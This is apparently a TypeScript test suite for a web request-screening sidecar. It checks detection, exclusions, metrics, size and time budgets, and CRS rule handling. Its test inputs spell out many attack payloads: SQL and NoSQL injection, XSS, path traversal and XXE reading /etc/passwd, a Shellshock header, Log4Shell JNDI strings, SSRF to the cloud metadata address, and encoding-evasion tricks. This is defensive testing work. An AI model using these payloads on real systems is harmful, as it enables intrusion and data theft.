// Requests under a RequestScreening: what is read of each part, what is refused, what is excluded, what is logged.

import { gzipSync } from 'node:zlib';
import { Registry } from 'prom-client';
import t from 'tap';
import { screening } from '../../../sidecar/edge/screening/capability.ts';
import { registerScreeningMetrics } from '../../../sidecar/edge/screening/metrics.ts';
import type { ScreeningPlan } from '../../../sidecar/edge/screening/schema.ts';
import { compileRules, Screening } from '../../../sidecar/edge/screening/screen.ts';
import { ScreeningThread } from '../../../sidecar/edge/screening/thread.ts';
import type { Exchange } from '../../../sidecar/exchange/exchange.ts';
import { hooksOf, planOf, serve } from '../../fixtures/exchange.ts';

const thread = new ScreeningThread();
t.teardown(() => thread.close());

async function hooksFor(spec: object = {}, more: { warnings?: string[]; registry?: Registry } = {}) {
  const plan = await planOf(
    screening,
    'RequestScreening',
    { mode: 'Block', ...spec },
    'sallyport.dev/RequestScreening',
  );
  const counts = more.registry === undefined ? undefined : registerScreeningMetrics(more.registry);
  const at = {
    name: 'RequestScreening shop/s',
    shared: { counts, thread },
    ...(more.warnings ? { warnings: more.warnings } : {}),
  };
  return hooksOf(screening, { RequestScreening: plan }, at);
}
type HooksOf = Awaited<ReturnType<typeof hooksFor>>;

interface Sent {
  readonly path?: string;
  readonly headers?: Record<string, string>;
  readonly body?: string | Buffer;
  readonly known?: Partial<Exchange>;
}

/** `passed` or the code, and what is logged. */
async function said(hooks: HooksOf, { path = '/', headers = {}, body = '', known = {} }: Sent): Promise<string> {
  const wholeBody = Buffer.from(body as string);
  const whole = wholeBody.length === 0 ? {} : { wholeBody, framing: wholeBody.length, method: 'POST' };
  const { client, exchange } = await serve(hooks, { headers, known: { path, target: path, ...whole, ...known } });
  if (client.code === 'internal') throw exchange.failure;
  return [client.code ?? 'passed', ...(exchange.noted ?? []).map(({ name, text }) => `${name}=${text}`)].join(' ');
}

const union = "1' union select name, password from users --";
const xss = '<img src=x onerror=alert(1)>';
const json = { 'content-type': 'application/json' };
const form = { 'content-type': 'application/x-www-form-urlencoded' };
const multipart = { 'content-type': 'multipart/form-data; boundary=b' };
const xml = { 'content-type': 'application/xml' };
const part = (head: string, text: string): string =>
  `--b\r\nContent-Disposition: form-data; ${head}\r\n\r\n${text}\r\n--b--\r\n`;

t.test('each part of a request is screened', async (t) => {
  const hooks = await hooksFor();
  const rows: readonly (readonly [what: string, sent: Sent, place: string])[] = [
    ['query', { path: `/a?q=${encodeURIComponent(union)}` }, 'query q'],
    ['query, encoded twice', { path: `/a?q=${encodeURIComponent(encodeURIComponent(union))}` }, 'query q'],
    ['query with plus signs', { path: `/a?q=${union.replaceAll(' ', '+')}` }, 'query q'],
    ['value without a name', { path: `/a?${encodeURIComponent(xss)}` }, 'name \\*'],
    ['value split over two parameters', { path: '/a?q=1/*&q=*/union/*&q=*/select/*&q=*/1,2' }, 'query q'],
    ['path', { path: '/a/..%252f..%252f..%252fetc/passwd' }, 'path'],
    ['path segment', { path: `/items/${encodeURIComponent(union)}/x` }, 'path'],
    ['header', { headers: { 'x-name': union } }, 'header x-name'],
    ['user agent', { headers: { 'user-agent': '() { :;}; /bin/cat /etc/passwd' } }, 'header user-agent'],
    ['cookie', { headers: { cookie: `a=b; c=${encodeURIComponent(xss)}` } }, 'cookie c'],
    ['JSON', { headers: json, body: JSON.stringify({ a: [{ b: union }] }) }, 'body a.b'],
    ['JSON in JSON', { headers: json, body: JSON.stringify({ a: JSON.stringify({ b: xss }) }) }, 'body a'],
    ['escaped JSON', { headers: json, body: JSON.stringify({ a: xss }).replaceAll('<', '\\u003c') }, 'body a'],
    ['key of JSON', { headers: json, body: '{"user":{"$ne":null}}' }, 'name \\*'],
    ['first of two equal keys', { headers: json, body: `{"a":"${xss}","a":"x"}` }, 'body'],
    ['JSON that is malformed', { headers: json, body: `{'a':'${xss}'}` }, 'body'],
    ['form', { headers: form, body: `a=b&c=${encodeURIComponent(xss)}` }, 'body c'],
    ['name in a form', { headers: form, body: 'user[$ne]=x' }, 'name \\*'],
    ['multipart', { headers: multipart, body: part('name="c"', xss) }, 'body c'],
    ['name of a file', { headers: multipart, body: part('name="c"; filename="../../../etc/passwd"', 'x') }, 'body c'],
    [
      'JSON in multipart',
      {
        headers: multipart,
        body: `--b\r\nContent-Disposition: form-data; name="c"\r\nContent-Type: application/json\r\n\r\n${JSON.stringify({ a: xss })}\r\n--b--\r\n`,
      },
      'body c',
    ],
    ['a broken multipart', { headers: multipart, body: `--x\r\n\r\n${xss}` }, 'body'],
    ['XML text', { headers: xml, body: `<a><b>${xss.replaceAll('<', '&lt;')}</b></a>` }, 'body b'],
    ['XML attribute', { headers: xml, body: `<a b="${union}"/>` }, 'body b'],
    ['CDATA', { headers: xml, body: `<a><![CDATA[${xss}]]></a>` }, 'body a'],
    ['entities', { headers: xml, body: '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>' }, 'body'],
    ['text', { headers: { 'content-type': 'text/plain' }, body: xss }, 'body'],
    ['no type', { body: xss }, 'body'],
    ['two types', { headers: { 'content-type': 'text/plain, application/json' }, body: xss }, 'body'],
    [
      'UTF-16',
      { headers: { 'content-type': 'text/plain; charset=utf-16le' }, body: Buffer.from(xss, 'utf16le') },
      'body',
    ],
    ['UTF-16 without a word', { headers: { 'content-type': 'text/plain' }, body: Buffer.from(xss, 'utf16le') }, 'body'],
    [
      'gzip',
      { headers: { ...json, 'content-encoding': 'gzip' }, body: gzipSync(JSON.stringify({ a: xss })) },
      'body a',
    ],
    ['a large body', { headers: json, body: JSON.stringify({ a: `${'word '.repeat(20_000)}${xss}` }) }, 'body a'],
    ['an overlong byte', { path: '/a?q=%c0%a7%20or%201=1--' }, 'query q'],
    ['encodings without end', { path: `/a?q=${'%25'.repeat(1)}${'25'.repeat(12)}27` }, 'query q'],
    ['NUL', { path: '/a?q=un%00ion%20sel%00ect%201,2' }, 'query q'],
  ];
  for (const [what, sent, place] of rows) {
    const text = await said(hooks, sent);
    t.match(text, new RegExp(`^attack_detected screening=\\d+ (?:.*; )?${place}: `), `${what}: ${text}`);
  }
});

t.test('ordinary requests pass', async (t) => {
  const hooks = await hooksFor();
  const ordinary: readonly Sent[] = [
    { path: '/search?q=O%27Brien+or+%22rock+%27n%27+roll%22&from=2026-11-30' },
    {
      headers: json,
      body: JSON.stringify({
        name: "D'Angelo & Sons",
        note: 'select a date from the union; order by 5 pm',
        n: 1,
        ok: null,
      }),
    },
    { headers: form, body: 'comment=I+%3C3+it%3B+5+%3E+3&name=Zo%C3%AB' },
    { headers: multipart, body: part('name="f"; filename="a.sql"', union) },
    {
      headers: xml,
      body: '<?xml version="1.0"?><!-- x --><order xmlns="http://example.test/x"><name a="b">O\'Brien &amp; Co</name></order>',
    },
    { headers: { 'content-type': 'image/png' }, body: Buffer.from([0x89, 0x50, 0, 1, 2]) },
    {
      headers: {
        authorization: 'Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJqb2UifQ.c2lnbmF0dXJl',
        referer: 'https://localhost/a',
        'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)',
      },
    },
    {},
  ];
  for (const sent of ordinary) t.equal(await said(hooks, sent), 'passed', JSON.stringify(sent).slice(0, 80));
});

t.test('Detect logs attacks and lets them pass', async (t) => {
  const registry = new Registry();
  const hooks = await hooksFor({ mode: 'Detect' }, { registry });
  t.match(await said(hooks, { path: `/a?q=${encodeURIComponent(xss)}` }), /^passed screening=\d+ query q: xss-/);
  t.match(await said(hooks, { body: 'x'.repeat(2 ** 20 + 1) }), 'passed');
  const text = await registry.metrics();
  t.match(text, 'sallyport_screenings_total{mode="Detect",outcome="attack"} 1');
  t.match(text, 'sallyport_screenings_total{mode="Detect",outcome="unscreened"} 1');
  t.match(text, 'sallyport_screening_detections_total{mode="Detect",detector="xss"} 1');
});

t.test('evidence contains no payload', async (t) => {
  const hooks = await hooksFor();
  const text = await said(hooks, { path: `/a?${encodeURIComponent(xss)}=${encodeURIComponent(union)}` });
  t.match(text, 'query *: sql-');
  t.notMatch(text, /img|users|union select/);
});

t.test('exclusions apply to the parts that they name', async (t) => {
  const one = { reason: 'analysts write SQL', until: '2099-01-01' };
  const sent = { path: `/reports/a?q=${encodeURIComponent(union)}` };
  const rows: readonly (readonly [exclusion: object, passes: boolean])[] = [
    [{ detector: 'sql' }, true],
    [{ detector: 'sql', in: 'query', field: 'q', path: '/reports' }, true],
    [{}, true],
    [{ detector: 'xss' }, false],
    [{ detector: 'sql', in: 'body' }, false],
    [{ detector: 'sql', field: 'other' }, false],
    [{ detector: 'sql', path: '/other' }, false],
    [{ detector: 'sql', until: '2020-01-01' }, false],
    [{ rule: 'sql-union' }, false],
  ];
  for (const [exclusion, passes] of rows) {
    const hooks = await hooksFor({ exclusions: [{ ...one, ...exclusion }] });
    t.equal((await said(hooks, sent)).startsWith('passed'), passes, JSON.stringify(exclusion));
  }
  const warnings: string[] = [];
  await hooksFor({ exclusions: [{ ...one, in: 'body', until: '2020-01-01' }] }, { warnings });
  t.strictSame(warnings, ["the exclusion 'analysts write SQL' ended on 2020-01-01: it has no effect"]);
  await t.rejects(hooksFor({ exclusions: [{ detector: 'sql', until: '2099-01-01' }] }), /an exclusion needs a reason/);
  await t.rejects(
    hooksFor({ exclusions: [{ detector: 'sql', reason: 'x' }] }),
    /an exclusion needs its last day, such as 2027-01-31/,
  );
});

t.test('an exclusion that has no effect, or too much, is reported', async (t) => {
  const [reason, until] = ['x', '2099-01-01'];
  const crs = { id: 942160, in: ['query'], operator: 'rx', argument: 'sleep', score: 5, level: 1, detector: 'sql' };
  const warningsOf = async (exclusion: object): Promise<string[]> => {
    const warnings: string[] = [];
    await hooksFor({ rules: [crs], exclusions: [{ reason, until, ...exclusion }] }, { warnings });
    return warnings;
  };
  for (const rule of ['sql-tautology', 'encoding-charset', 'crs-942160', '942160', 942160])
    t.strictSame(await warningsOf({ rule }), [], String(rule));
  const unknown = (rule: string) => [
    `the exclusion 'x' names the rule '${rule}', which does not exist: it has no effect`,
  ];
  t.strictSame(await warningsOf({ rule: 'sql-tautologie' }), unknown('sql-tautologie'));
  t.strictSame(await warningsOf({ rule: 942170 }), unknown('crs-942170'));
  t.strictSame(await warningsOf({}), [
    "the exclusion 'x' has no detector, rule, in, field or path: nothing is screened",
  ]);
  const path = '/?q=sleep';
  t.equal(await said(await hooksFor({ rules: [crs] }), { path }), 'attack_detected screening=5 query q: crs-942160');
  t.equal(
    await said(await hooksFor({ rules: [crs], exclusions: [{ rule: 942160, reason, until }] }), { path }),
    'passed',
  );
  await t.rejects(
    hooksFor({ rules: [{ ...crs, argument: 'a(?=b)' }] }),
    /cannot be evaluated in linear time \(RE2 syntax\)/,
  );
});

t.test('an exclusion matches whole segments, and the element itself', async (t) => {
  const hooks = await hooksFor({
    exclusions: [
      { path: '/reports', reason: 'analysts write SQL', until: '2099-01-01' },
      { field: 'query', reason: 'analysts write SQL', until: '2099-01-01' },
    ],
  });
  for (const path of ['/reports', '/reports/', '/reports/a%2fb', '/reports/a..b'])
    t.equal(await said(hooks, { path: `${path}?q=${encodeURIComponent(union)}` }), 'passed', path);
  for (const path of [
    '/reportsadmin',
    '/reports/..%2fadmin',
    '/reports/..%252fadmin',
    '/reports/..;/admin',
    '/reports/..%5cadmin',
  ])
    t.match(await said(hooks, { path: `${path}?q=${encodeURIComponent(union)}` }), 'attack_detected', path);
  const text = xss.replace('<', '&lt;');
  t.equal(await said(hooks, { headers: xml, body: `<a><query>${text}</query></a>` }), 'passed');
  t.match(await said(hooks, { headers: xml, body: `<a><note><query/>${text}</note></a>` }), 'attack_detected');
});

/** `<img ` in EBCDIC. */
const ebcdic = Buffer.from('4c89948740', 'hex');

t.test('other content beside an attack does not hide it', async (t) => {
  const hooks = await hooksFor();
  const q = `q=${encodeURIComponent(union)}`;
  const plus = `q=${union.replaceAll(' ', '+')}`;
  const typed = (type: string) => ({ 'content-type': type });
  const halves = Array.from({ length: 110 }, (_, i) => `a${i}=..%2Fa.png`).join('&');
  const apart = "x' or '1'='1";
  const base64 = (text: string | Buffer): string => Buffer.from(text as string).toString('base64');
  const nested = (depth: number, text: string): string =>
    depth === 0 ? text : JSON.stringify({ a: nested(depth - 1, text) });
  // biome-ignore lint/suspicious/noTemplateCurlyInString: text of another language
  const jndi = '${jndi:ldap://x.test/a}';
  const rows: readonly (readonly [what: string, sent: Sent])[] = [
    ['a hundred half signs before it', { path: `/a?${halves}&${q}` }],
    ['zeros that look like UTF-16', { headers: form, body: `a\0b\0=1&${q}` }],
    ['the mark of UTF-16', { headers: form, body: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(q)]) }],
    ['a charset that is not used', { headers: typed('text/plain; charset=utf-16le'), body: xss }],
    ['EBCDIC', { headers: typed('text/plain; charset=ibm037'), body: ebcdic }],
    ['UTF-7', { headers: typed('text/plain; charset=utf-7'), body: '+ADw-img src=x onerror+AD0-alert(1)+AD4-' }],
    ['UTF-7 in XML', { headers: xml, body: '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a+AD4-<a/>' }],
    ['a form in UTF-16', { headers: typed('application/x-www-form-urlencoded; charset=utf-16le'), body: 'q=%3c%00' }],
    ['JSON as bytes', { headers: typed('application/octet-stream'), body: JSON.stringify({ a: xss }) }],
    ['a form as an image', { headers: typed('image/png'), body: q }],
    [
      'JSON as gRPC in HTTP/1.1',
      { headers: typed('application/grpc'), known: { grpc: true }, body: JSON.stringify({ a: xss }) },
    ],
    ['a form without a type', { body: plus }],
    ['a form as text', { headers: typed('text/plain'), body: plus }],
    ['a form as JSON', { headers: json, body: plus }],
    ['JSON as a form', { headers: form, body: '{"a":"1\\u0027 union select 1,2 from users"}' }],
    ['XML as a form', { headers: form, body: '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>' }],
    ['an apostrophe before a broken JSON', { headers: json, body: `{"z":"O'Brien","b":1,"b":"${apart}"}` }],
    ['a comment in JSON', { headers: json, body: `{"z":"O'Brien", /* x */ "a":"${apart}"}` }],
    ['lines of JSON', { headers: typed('application/x-ndjson'), body: `{"z":"O'Brien"}\n{"a":"${apart}"}` }],
    ['JSON behind a mark', { headers: json, body: `\ufeff${JSON.stringify({ z: "O'Brien", a: apart })}` }],
    ['JSON six times in JSON', { headers: json, body: nested(6, xss) }],
    ['a class in JSON', { headers: json, body: '{"@type":"com.sun.rowset.JdbcRowSetImpl"}' }],
    ['a prototype', { headers: json, body: '{"constructor":{"prototype":{"a":true}}}' }],
    ['a prototype in a query', { path: '/a?constructor[prototype][a]=1' }],
    ['parameters of a path', { path: '/a;id=1%20or%20true/b' }],
    ['a query without names', { path: '/a?http://169.254.169.254/latest/' }],
    ['a scheme without a token', { headers: { authorization: `Bearer ${jndi}` } }],
    ['a user', { headers: { authorization: `Basic ${base64("admin' or 1=1--:x")}` } }],
    ['a key', { headers: { 'x-api-key': jndi } }],
    ['a trace', { headers: { traceparent: jndi } }],
    ['a name like a known one', { headers: { 'x-notif-url': 'http://169.254.169.254/latest/' } }],
    ['a field without a file name', { headers: multipart, body: part('name="c"; filename=""', xss) }],
    [
      'a section in the middle',
      { headers: xml, body: "<a><![CDATA[1' uni]]><![CDATA[on select 1,2 from users--]]></a>" },
    ],
    ['base64 in base64', { path: `/a?q=${encodeURIComponent(base64(base64(union)))}` }],
    [
      'a byte in base64',
      { path: `/a?q=${encodeURIComponent(base64(Buffer.concat([Buffer.from([0xff]), Buffer.from(union)])))}` },
    ],
    ['blanks of Unicode', { path: `/a?q=${encodeURIComponent('1\u3000union\u2003select\u30001,2')}` }],
    ['a long comment', { path: `/a?q=1;drop/*${'a'.repeat(100)}*/table/*a*b*/users--` }],
    ['many blanks in SQL', { path: `/a?q=1;drop%20table${'%20'.repeat(60)}users` }],
    ['many blanks in a tag', { path: `/a?q=${encodeURIComponent(`<img src=x onerror${' '.repeat(40)}=alert(1)>`)}` }],
    ['tabs in a URL', { path: `/a?q=${encodeURIComponent(`j${'\t'.repeat(12)}avascript:alert(1)`)}` }],
    ['many blanks before a command', { path: `/a?q=${encodeURIComponent(`x;${' '.repeat(400)}cat /etc/hostname`)}` }],
  ];
  for (const [what, sent] of rows) t.match(await said(hooks, sent), /^attack_detected /, what);
});

t.test('bodies that are not text pass, or are refused where the policy says so', async (t) => {
  const image = {
    headers: { 'content-type': 'image/png' },
    body: Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 1, 2, 0xff]),
  };
  t.equal(await said(await hooksFor(), image), 'passed');
  t.equal(await said(await hooksFor({ unreadableBodies: 'Refuse' }), image), 'content_type_unsupported');
  t.equal(await said(await hooksFor({ unreadableBodies: 'Refuse', mode: 'Detect' }), image), 'passed');
  t.equal(await said(await hooksFor({ unreadableBodies: 'Refuse' }), { headers: json, body: '{}' }), 'passed');
});

t.test('threshold, paranoia and detectors are configurable', async (t) => {
  const weak = { path: '/a?q=..%2Fa.png' };
  t.match(await said(await hooksFor(), weak), /^passed screening=3 query q: path-step/);
  t.match(await said(await hooksFor({ threshold: 3 }), weak), 'attack_detected');
  const plain = { path: `/a?q=${encodeURIComponent("x')")}` };
  t.match(await said(await hooksFor(), plain), /^passed/);
  t.match(await said(await hooksFor({ threshold: 2, paranoiaLevel: 2 }), plain), 'attack_detected');
  t.match(await said(await hooksFor({ detectors: ['xss'] }), { path: `/a?q=${encodeURIComponent(union)}` }), 'passed');
});

t.test('budgets limit the time and the size', async (t) => {
  const hooks = await hooksFor({ bodyLimit: '1Ki' });
  t.match(await said(hooks, { headers: json, body: `{"a":"${'x'.repeat(2000)}"}` }), 'body_too_large');
  const bomb = { headers: { ...json, 'content-encoding': 'gzip' }, body: gzipSync('x'.repeat(100_000)) };
  t.match(await said(hooks, bomb), 'body_too_large');
  t.match(
    await said(hooks, { headers: { 'content-encoding': 'gzip, gzip' }, body: 'x' }),
    'content_encoding_unsupported',
  );
  t.match(await said(hooks, { headers: { 'content-encoding': 'gzip' }, body: 'x' }), 'content_encoding_invalid');
  const many = Array.from({ length: 60_000 }, (_, i) => `a${i}=1`).join('&');
  t.match(await said(await hooksFor({ timeLimitMs: 10_000 }), { headers: form, body: many }), 'screening_too_costly');
  const slow = { headers: json, body: JSON.stringify({ a: "select '".repeat(100_000) }) };
  t.match(await said(await hooksFor({ timeLimitMs: 1 }), slow), 'screening_too_costly');
});

t.test('gRPC messages and tunnels are not screened, and their heads are', async (t) => {
  const hooks = await hooksFor();
  for (const known of [{ grpc: true, minor: 2 }, { webSocket: true }]) {
    t.equal(await said(hooks, { known }), 'passed');
    t.match(await said(hooks, { known, headers: { 'x-a': union } }), 'attack_detected');
  }
});

t.test('the time limit applies between two CRS rules', async (t) => {
  const rules = Array.from({ length: 500 }, (_, i) => ({
    ...{ id: i + 1, in: ['body'], operator: 'rx', argument: `(?:a|b|ab)*c|x${i}|a` },
    ...{ transformations: [], score: 5, level: 1, detector: 'sql' },
  }));
  const spec = { rules, timeLimitMs: 1 };
  const plan = (await planOf(screening, 'RequestScreening', spec, 'sallyport.dev/RequestScreening')) as ScreeningPlan;
  const one = new Screening(compileRules(plan), '/');
  one.take('body', '', 'ab'.repeat(7000));
  t.equal(one.spent, 'time');
  t.ok(one.hits.length < rules.length, `${one.hits.length} rules were evaluated`);
});

t.test('a million parameters and elements stay within the time limit', async (t) => {
  const hooks = await hooksFor({ timeLimitMs: 10_000 });
  t.match(await said(hooks, { headers: form, body: 'a&'.repeat(500_000) }), 'screening_too_costly');
  t.match(await said(hooks, { headers: xml, body: '<a>'.repeat(300_000) }), 'screening_too_costly');
});

t.test('CRS rules are evaluated', async (t) => {
  const rule = {
    id: 942100,
    in: ['query'],
    operator: 'rx',
    argument: '(?i)forbidden\\s+word',
    transformations: ['urlDecodeUni'],
    score: 5,
    level: 1,
    detector: 'sql',
  };
  const hooks = await hooksFor({ rules: [rule, { ...rule, id: 2, operator: 'pm', argument: ['zebra', 'lion'] }] });
  t.match(await said(hooks, { path: '/a?q=forbidden+WORD' }), 'attack_detected screening=5 query q: crs-942100');
  t.match(await said(hooks, { path: '/a?q=a+Zebra' }), 'attack_detected screening=5 query q: crs-2');
  t.equal(await said(hooks, { path: '/a?q=other' }), 'passed');
});
